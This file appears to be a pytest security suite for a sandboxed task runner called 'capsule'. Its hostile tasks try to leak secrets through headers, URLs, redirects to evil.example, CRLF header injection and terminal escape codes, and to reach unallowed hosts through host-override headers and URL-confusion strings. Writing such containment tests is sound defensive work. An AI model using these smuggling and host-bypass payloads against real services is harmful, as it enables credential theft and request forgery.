@@ -1,0 +1,409 @@
+"""Hostile tasks that try to get credentials into the journal, the events or the
+terminal through HTTP, and to send a request somewhere their grants do not
+reach. Each runs for real (`capsule run`, a real local server); containment is
+checked from the outside: the journal's bytes, `capsule inspect`, stderr."""
+
+from __future__ import annotations
+
+import base64
+import json
+import re
+import socket
+import sqlite3
+import textwrap
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.conftest import LocalServer, capsule_cli
+
+#: Every secret of these programs has this in it: granted env values
+#: (``EnvS3cretNN``) and credentials written into requests (``HdrS3cretNN``),
+#: NN naming the attack. Percent-encoding leaves it as it is.
+MARKER = "S3cret"
+ATTACKS = 32
+
+
+def env_value(number: int) -> str:
+    if number == 4:  # a value with characters a URL encodes
+        return "EnvS3cret04 a/b+c=d&e?f%h"
+    return f"EnvS3cret{number:02}-Wq8Zr3Lp6Ty1"
+
+
+HOSTILE = """
+import base64, json, os
+from urllib.parse import quote, unquote_plus
+from capsule import task
+from capsule.http import HttpError, get, post
+from capsule.sdk.http import http_error
+from wit_world.imports import http as raw_http
+
+
+def raw(fields):
+    # The WIT import itself, past the SDK: any JSON text at all.
+    text = fields if isinstance(fields, str) else json.dumps(fields)
+    try:
+        return json.loads(raw_http.request(text))
+    except Exception as exc:
+        raise http_error(json.loads(exc.value)) from None
+
+
+def each(calls):
+    kinds = []
+    for call in calls:
+        try:
+            call()
+            kinds.append("sent")
+        except HttpError as exc:
+            kinds.append(f"{exc.kind}: {exc}")
+    return kinds
+
+
+def attacks(base, echo, closed, k, h):
+    port = base.rsplit(":", 1)[1]
+    return {
+        # A granted value where no name says it is secret.
+        1: lambda: k in get(base + "/echo", headers={"X-Custom": k}).text(),
+        2: lambda: get(f"{base}/v1/{k}/items").status_code,
+        3: lambda: k in unquote_plus(get(base + "/echo", params={"q": k}).json()["path"]),
+        4: lambda: [
+            get(base + "/echo", params={"q": k}).status_code,
+            get(base + "/echo?x=" + k).status_code,
+        ],
+        # Names the old list missed.
+        5: lambda: h in get(
+            base + "/echo", headers={"X-Bearer": h + "a", "X-JWT": h + "b", "X-Passphrase": h + "c"}
+        ).text(),
+        6: lambda: get(base + "/echo", params={"sig": h + "a", "code": h + "b", "pwd": h + "c"})
+        .status_code,
+        7: lambda: get(base + "/echo#access_token=" + h).status_code,
+        # Tokens in the path.
+        8: lambda: get(base + "/bot123456789:AA" + h + "xYz/sendMessage").status_code,
+        9: lambda: [
+            get(base + "/hooks/" + h + "a").status_code,
+            get(base + "/services/T0ABC/B0DEF/" + h + "xY7").status_code,
+        ],
+        # Userinfo: httpx sends it as Basic credentials, which /echo echoes back.
+        10: lambda: "authorization" in get(f"http://user:{h}@127.0.0.1:{port}/echo").json()[
+            "headers"
+        ],
+        # Malformed URLs, which no parser splits.
+        11: lambda: raw(
+            {"method": "GET", "url": f"http://user:{h}a@[::1/?api_key={h}b&q={k}", "body": ""}
+        ),
+        12: lambda: get(f"ftp://user:{h}@127.0.0.1/?q={k}"),
+        # Header values HTTP refuses, which httpx's errors quote.
+        13: lambda: raw(
+            {
+                "method": "GET",
+                "url": base + "/echo",
+                "headers": [["Authorization", f"Bearer {h}\\r\\nX-Injected: 1"]],
+            }
+        ),
+        14: lambda: get(base + "/echo", headers={"X-Custom": k + "\\n"}),
+        # Connection errors, which quote the URL.
+        15: lambda: get(f"{closed}/{k}/?api_key={h}"),
+        # Guest values in the request's other fields.
+        16: lambda: each(
+            [
+                lambda: raw({"method": k, "url": base + "/echo"}),
+                lambda: raw({"method": "GET", "url": base + "/echo", "timeout_s": h}),
+                lambda: raw({"method": "GET", "url": base + "/echo", "body": h + "!"}),
+                lambda: raw({"method": "GET", "url": base + "/echo", "headers": {"X-K": k}}),
+                lambda: raw({"method": "GET", "url": base + "/echo", "headers": [[k]]}),
+                lambda: raw({"method": "GET", "url": base + "/echo", k: h}),
+                lambda: raw([k, h]),
+                lambda: raw(k + '"' + h),
+            ]
+        ),
+        # A number no float holds.
+        17: lambda: raw(
+            '{"method": "GET", "url": "' + base + '/echo", "timeout_s": 1' + "0" * 400 + "}"
+        ),
+        # A redirect to a host not granted, the value in both URLs.
+        18: lambda: get(base + "/redirect?to=" + quote(f"http://evil.example/?x={k}", safe="")),
+        # A redirect inside the granted host: the final URL carries the value.
+        19: lambda: get(base + "/redirect?to=" + quote(f"/echo?x={k}", safe="")).url.endswith(k),
+        # A server that echoes request headers as response headers.
+        20: lambda: get(echo + "/", headers={"X-Custom": k, "Authorization": "Bearer " + h})
+        .headers.get("x-echo-x-custom")
+        == k,
+        # Across origins, a header carrying a granted value is dropped.
+        21: lambda: "x-custom" in get(
+            base + "/redirect?to=" + quote(f"http://localhost:{port}/echo", safe=""),
+            headers={"X-Custom": k},
+        ).json()["headers"],
+        # Bounds: what a task makes the host hold or journal.
+        22: lambda: each(
+            [
+                lambda: get(base + "/echo?q=" + "A" * (8 * 2**20) + k),
+                lambda: get(base + "/echo", headers={f"X-H{i}": k for i in range(5000)}),
+                lambda: get(base + "/echo", headers={"X-Big": k + "A" * (4 * 2**20)}),
+            ]
+        ),
+        # Terminal control sequences in what -v shows.
+        23: lambda: each(
+            [
+                lambda: get(base + "/\\x1b]0;pwned\\x07\\x1b[2J" + k),
+                lambda: raw({"method": "GET", "url": base + "/\\u009b31m" + k}),
+            ]
+        ),
+        # Cookies and bearer tokens sent, and echoed back in the body.
+        24: lambda: h in get(base + "/echo", headers={"Cookie": f"theme=dark; sid={h}"}).text(),
+        25: lambda: h in get(base + "/echo", headers={"Authorization": "Bearer " + h}).text(),
+        # Header names that are not names.
+        26: lambda: each(
+            [
+                lambda: raw({"method": "GET", "url": base + "/echo", "headers": [[h, "v"]]}),
+                lambda: raw({"method": "GET", "url": base + "/echo", "headers": [[k + " x", "v"]]}),
+                lambda: raw({"method": "GET", "url": base + "/echo", "headers": [[h * 100, "v"]]}),
+            ]
+        ),
+        # A lone surrogate, which no encoder takes.
+        27: lambda: raw('{"method": "GET", "url": "' + base + "/" + k + '\\\\ud800"}'),
+        # camelCase and separators the name check must see through.
+        28: lambda: get(
+            base + "/echo",
+            params={"accessToken": h + "a", "clientSecret": h + "b", "X-Amz-Signature": h + "c"},
+            headers={"X-Vault-Token": h + "d", "PRIVATE-TOKEN": h + "e"},
+        ).status_code,
+        # The value inside a longer header value and in the body of a POST.
+        29: lambda: post(
+            base + "/echo", headers={"X-Note": "key=" + k + ";"}, json={"key": k}
+        ).status_code,
+        # A key-like name in a malformed query, and an unparsable port.
+        30: lambda: each(
+            [
+                lambda: get(f"http://127.0.0.1:{port}x/?api_key={h}"),
+                lambda: get(f"http://127.0.0.1:99999/{k}?token={h}"),
+            ]
+        ),
+        # Credentials inside the fragment and the query of a redirect's Location.
+        31: lambda: get(
+            base + "/redirect?to=" + quote(f"/status/200?code={h}#id_token={h}", safe="")
+        ).status_code,
+        32: lambda: get(base + "/echo", headers={"Proxy-Authorization": "Basic " + h}).status_code,
+    }
+
+
+@task(name="main", allowed_hosts=["127.0.0.1", "localhost"], env=[__ENV__])
+def main(base: str, echo: str, closed: str) -> dict:
+    out = {}
+    for number in range(1, __ATTACKS__ + 1):
+        k = os.environ[f"K{number:02}"]
+        h = f"HdrS3cret{number:02}-Qx7Lm2Np9Rt4"
+        try:
+            out[number] = ["sent", attacks(base, echo, closed, k, h)[number]()]
+        except HttpError as exc:
+            out[number] = [exc.kind, str(exc)]
+    return out
+"""
+
+
+class _HeaderEcho(BaseHTTPRequestHandler):
+    """Answers every request with its headers as ``X-Echo-<name>`` headers."""
+
+    def do_GET(self) -> None:
+        self.send_response(200)
+        for name, value in self.headers.items():
+            self.send_header(f"X-Echo-{name}", value)
+        self.send_header("Content-Length", "2")
+        self.end_headers()
+        self.wfile.write(b"{}")
+
+    def log_message(self, format: str, *args: Any) -> None:
+        return None
+
+
+@pytest.fixture
+def header_echo() -> Iterator[str]:
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _HeaderEcho)
+    server.daemon_threads = True
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}"
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join()
+
+
+@pytest.fixture
+def closed_port() -> Iterator[str]:
+    """A port on 127.0.0.1 that is bound but not listening: connections fail."""
+    sock = socket.socket()
+    sock.bind(("127.0.0.1", 0))
+    try:
+        yield f"http://127.0.0.1:{sock.getsockname()[1]}"
+    finally:
+        sock.close()
+
+
+def journal_bytes(journal: Path) -> bytes:
+    """The journal as it is on disk: the database, its WAL and shared memory."""
+    return b"".join(
+        path.read_bytes()
+        for path in (journal, journal.with_name(journal.name + "-wal"))
+        if path.exists()
+    )
+
+
+def journaled_bodies(journal: Path) -> list[bytes]:
+    """The response bodies the journal holds (base64 there), decoded."""
+    with sqlite3.connect(journal) as connection:
+        answers = [
+            row[0]
+            for row in connection.execute("SELECT answer FROM steps WHERE kind = 'http' AND ok")
+        ]
+    return [base64.b64decode(json.loads(answer)["body"]) for answer in answers]
+
+
+def leaks(text: str) -> set[str]:
+    """Which attacks' secrets are in ``text``."""
+    return set(re.findall(rf"(?:Env|Hdr){MARKER}(\d\d)", text))
+
+
+def test_no_secret_reaches_the_journal_the_events_or_the_terminal(
+    tmp_path: Path, http_server: LocalServer, header_echo: str, closed_port: str
+) -> None:
+    names = ", ".join(f'"K{n:02}"' for n in range(1, ATTACKS + 1))
+    program = tmp_path / "hostile.py"
+    program.write_text(
+        textwrap.dedent(HOSTILE)
+        .replace("__ENV__", names)
+        .replace("__ATTACKS__", str(ATTACKS))
+    )
+    env = {f"K{n:02}": env_value(n) for n in range(1, ATTACKS + 1)}
+    journal = tmp_path / "journal.db"
+    done = capsule_cli(
+        "run", str(program), http_server.url, header_echo, closed_port, "-v",
+        "--journal", str(journal), env=env,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr[-3000:]
+    outcomes = {int(number): outcome for number, outcome in json.loads(done.stdout).items()}
+
+    # What the task saw: the real responses, and the refusals it should get.
+    kinds = {number: outcome[0] for number, outcome in outcomes.items()}
+    refused = {11, 12, 13, 14, 17, 27}
+    assert {n for n, kind in kinds.items() if kind == "invalid_request"} == refused, outcomes
+    assert kinds[15] == "connection_failed" and kinds[18] == "host_not_allowed", outcomes
+    for number in (1, 3, 5, 10, 19, 20, 24, 25):
+        assert outcomes[number] == ["sent", True], (number, outcomes[number])
+    assert outcomes[21] == ["sent", False]  # dropped at the other origin
+    for number in (16, 22, 23, 26, 30):
+        for kind in outcomes[number][1]:
+            assert kind.startswith("invalid_request: "), (number, kind)
+    assert "Host" not in outcomes[16][1][0]  # (a sanity check of the messages' form)
+
+    # Nowhere outside the task: the journal, inspect, the terminal, the result.
+    inspected = capsule_cli("inspect", "--last", "--json", "--journal", str(journal))
+    shown = capsule_cli("inspect", "--last", "--journal", str(journal))
+    assert inspected.returncode == 0 and shown.returncode == 0, inspected.stderr
+    places = {
+        "journal": journal_bytes(journal).decode("utf-8", "replace"),
+        "journaled bodies": " ".join(b.decode("utf-8", "replace") for b in journaled_bodies(journal)),
+        "inspect --json": inspected.stdout,
+        "inspect": shown.stdout,
+        "stderr -v": done.stderr,
+        "result": done.stdout,
+    }
+    found = {place: leaks(text) for place, text in places.items() if leaks(text)}
+    assert found == {}, found
+    # Basic credentials echoed back: base64, so not found by the marker.
+    for body in journaled_bodies(journal):
+        for encoded in re.findall(rb"Basic ([A-Za-z0-9+/=]{8,})", body):
+            assert MARKER.encode() not in base64.b64decode(encoded + b"=="), body
+    assert "Traceback" not in done.stderr
+    assert "\x1b" not in done.stderr and "\x9b" not in done.stderr
+    # Bounded: the 8 MB URL and 4 MB header were not kept.
+    assert len(journal_bytes(journal)) < 2 * 2**20
+
+
+ROUTING = """
+import json
+from capsule import task
+from capsule.sdk.http import http_error
+from wit_world.imports import http as raw_http
+from capsule.http import HttpError, get
+
+@task(name="main", allowed_hosts=["127.0.0.1"])
+def main(base: str, names: list, urls: list) -> list:
+    out = []
+    for name in names:
+        try:
+            get(base + "/echo", headers={name: "evil.example"})
+            out.append(["sent", name])
+        except HttpError as exc:
+            out.append([exc.kind, str(exc)])
+    for url in urls:
+        try:
+            get(url)
+            out.append(["sent", url])
+        except HttpError as exc:
+            out.append([exc.kind, str(exc)])
+    return out
+"""
+
+#: Headers that say where a request goes, or how it is framed: a task cannot set them.
+REFUSED_HEADERS = [
+    "Host",
+    "host",
+    "HOST",
+    "X-Forwarded-Host",
+    "X-Forwarded-Server",
+    "X-Host",
+    "X-HTTP-Host-Override",
+    "Forwarded",
+    "X-Original-URL",
+    "X-Rewrite-URL",
+    "Transfer-Encoding",
+    "Content-Length",
+    "Connection",
+    "Keep-Alive",
+    "Proxy-Connection",
+    "TE",
+    "Trailer",
+    "Upgrade",
+]
+#: Not names at all (a pseudo-header, whitespace that may be trimmed into Host).
+INVALID_NAMES = [":authority", "Host ", " Host", "Ho st", "Host:", "Host\t"]
+
+
+def test_a_task_cannot_redirect_a_request_past_its_allowed_hosts(
+    tmp_path: Path, http_server: LocalServer
+) -> None:
+    port = http_server.server_address[1]
+    urls = [
+        f"http://127.0.0.1:{port}\\@evil.example/echo",
+        f"http://evil.example\\\\127.0.0.1:{port}/echo",
+        f"http://127.0.0.1:{port}%2F@evil.example/echo",
+        f"http://evil.example#@127.0.0.1:{port}/echo",
+        f"http://evil.example?@127.0.0.1:{port}/echo",
+        f"http:/\\evil.example/echo",
+    ]
+    program = tmp_path / "fronting.py"
+    program.write_text(textwrap.dedent(ROUTING))
+    done = capsule_cli(
+        "run", str(program), http_server.url, json.dumps(REFUSED_HEADERS + INVALID_NAMES),
+        json.dumps(urls), "-v", "--journal", str(tmp_path / "journal.db"),
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr[-3000:]
+    outcomes = json.loads(done.stdout)
+    assert http_server.hits == {}, http_server.hits  # nothing reached the server
+    for name, (kind, message) in zip(REFUSED_HEADERS, outcomes, strict=False):
+        assert kind == "invalid_request", (name, kind, message)
+        assert f"'{name.lower()}'" in message.lower(), (name, message)
+    for name, (kind, message) in zip(
+        INVALID_NAMES, outcomes[len(REFUSED_HEADERS) :], strict=False
+    ):
+        assert kind == "invalid_request", (name, kind, message)
+    for url, (kind, message) in zip(
+        urls, outcomes[len(REFUSED_HEADERS) + len(INVALID_NAMES) :], strict=True
+    ):
+        assert kind in ("host_not_allowed", "invalid_request"), (url, kind, message)
+    assert "Traceback" not in done.stderr
